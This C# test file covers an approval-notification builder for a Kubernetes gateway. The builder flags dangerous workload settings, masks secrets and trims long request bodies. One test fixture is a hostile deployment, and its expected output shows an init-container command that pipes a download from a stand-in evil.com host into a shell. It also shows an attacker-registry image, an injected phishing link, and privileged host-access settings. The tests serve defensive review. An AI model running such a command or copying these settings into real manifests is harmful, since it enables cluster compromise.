using Hoop.Gateway.Approvals.Notifications;

namespace Hoop.Gateway.Tests.Approvals.Notifications;

public class ApprovalMessageBuilderTests
{
    [Fact]
    public async Task Build_Scale_CommandInKubectlTermsAndNoWorkload()
    {
        using var bed = await NotificationTestBed.CreateAsync();

        var message = await bed.Messages.BuildAsync(NotificationTestBed.Scale());

        Assert.Equal("patch deployments.apps/scale web -n default", message.Command);
        Assert.Empty(message.Workload);
        Assert.Contains("\"replicas\": 3", message.BodySummary, StringComparison.Ordinal);
        Assert.Equal("hoop-dev:alice", Fact(message, "Requested by"));
        Assert.Equal("s-notify", Fact(message, "Session"));
        Assert.Equal("demo", Fact(message, "Connection"));
        Assert.Equal("writes-need-approval", Fact(message, "Rule"));
        Assert.Equal("Changes need a person's approval.", Fact(message, "Reason"));
        Assert.Equal("sre-leads", Fact(message, "Approvers"));
        Assert.EndsWith("UTC", Fact(message, "Expires"), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Build_HostileDeployment_WorkloadFactsLoudWhereDangerous()
    {
        using var bed = await NotificationTestBed.CreateAsync();

        var message = await bed.Messages.BuildAsync(NotificationTestBed.CreateDeployment(NotificationTestBed.Asset("deployment-hostile.json")));

        Assert.Equal("create deployments.apps web[click](https://evil.example.com/phish) -n default", message.Command);
        var workload = message.Workload.Select(f => (f.Label, f.Value, f.Warning)).ToList();
        Assert.Contains(("Image", "init container setup: busybox:1.36", false), workload);
        Assert.Contains(("Command", "init container setup: sh -c curl http://evil.com/x | sh", false), workload);
        Assert.Contains(("Image", "container web: registry.evil.com/nginx:latest", false), workload);
        Assert.Contains(("PRIVILEGED container", "container web", true), workload);
        Assert.Contains(("Added capabilities", "container web: SYS_ADMIN", true), workload);
        Assert.Contains(("Secret volume", "creds: secret db-creds", false), workload);
        Assert.Contains(("HOST PATH volume", "root: /", true), workload);
        Assert.Contains(("Volume", "cfg: configMap web-config", false), workload);
        Assert.Contains(("Secret volume", "bundle: secret tls-bundle", false), workload);
        Assert.Contains(("Volume", "bundle: serviceAccountToken audience vault", false), workload);
        Assert.Contains(("Secret in environment", "api-keys (key primary)", false), workload);
        Assert.Contains(("Secret in environment", "web-env (all keys)", false), workload);
        Assert.Contains(("Service account", "deployer", false), workload);
        Assert.Contains(("HOST NETWORK", "hostNetwork: true", true), workload);
    }

    [Fact]
    public async Task Build_SecretValuesInBody_AreMaskedEverywhere()
    {
        using var bed = await NotificationTestBed.CreateAsync();

        var message = await bed.Messages.BuildAsync(NotificationTestBed.CreateDeployment(NotificationTestBed.Asset("deployment-hostile.json")));

        var everything = string.Join("\n", message.Facts.Concat(message.Workload).Select(f => f.Value)) + message.BodySummary;
        Assert.DoesNotContain("hunter2-very-secret", everything, StringComparison.Ordinal);
        Assert.DoesNotContain("ghp_0123456789abcdefghijklmnopqrstuvwxyzAB", everything, StringComparison.Ordinal);
        Assert.Contains("DB_PASSWORD", message.BodySummary, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Build_YamlCronJob_FindsTheJobTemplatesPodSpec()
    {
        using var bed = await NotificationTestBed.CreateAsync();
        var request = NotificationTestBed.CreateDeployment(NotificationTestBed.Asset("cronjob.yaml"), "application/apply-patch+yaml") with
        {
            Verb = "patch",
            ApiGroup = "batch",
            Resource = "cronjobs",
            Name = "nightly",
        };

        var message = await bed.Messages.BuildAsync(request);

        Assert.Equal("patch cronjobs.batch nightly -n default", message.Command);
        var workload = message.Workload.Select(f => (f.Label, f.Value, f.Warning)).ToList();
        Assert.Contains(("Image", "container job: alpine:3.20", false), workload);
        Assert.Contains(("Command", "container job: sh -c echo hello", false), workload);
        Assert.Contains(("HOST PID namespace", "hostPID: true", true), workload);
    }

    [Fact]
    public async Task Build_Links_VerifyForThisApprovalWithTheirIntent()
    {
        using var bed = await NotificationTestBed.CreateAsync();
        var request = NotificationTestBed.Scale();

        var message = await bed.Messages.BuildAsync(request);

        foreach (var (link, intent) in new[] { (message.OpenLink, (string?)null), (message.ApproveLink, "approve"), (message.DenyLink, "deny") })
        {
            Assert.StartsWith(NotificationTestBed.BaseUrl + "approvals/" + request.ApprovalId + "/page?link=", link.AbsoluteUri, StringComparison.Ordinal);
            var query = Microsoft.AspNetCore.WebUtilities.QueryHelpers.ParseQuery(link.Query);
            var verified = await bed.Links.VerifyAsync(request.ApprovalId, query["link"]);
            Assert.NotNull(verified);
            Assert.Equal(request.ExpiresAt.ToUnixTimeSeconds(), verified.ExpiresAt.ToUnixTimeSeconds());
            Assert.Equal(intent, query.TryGetValue("intent", out var i) ? i.ToString() : null);
        }
    }

    [Fact]
    public async Task Build_LongBody_IsShortenedAndSaysSo()
    {
        using var bed = await NotificationTestBed.CreateAsync();
        var body = "{\"data\":{\"k\":\"" + new string('a', 5000) + "\"}}";
        var request = NotificationTestBed.CreateDeployment(body) with { Resource = "configmaps", ApiGroup = "" };

        var message = await bed.Messages.BuildAsync(request);

        Assert.True(message.BodyTruncated);
        Assert.Equal(ApprovalMessageBuilder.MaxBodyChars, message.BodySummary.Length);
    }

    private static string Fact(ApprovalMessage message, string label) => Assert.Single(message.Facts, f => f.Label == label).Value;
}
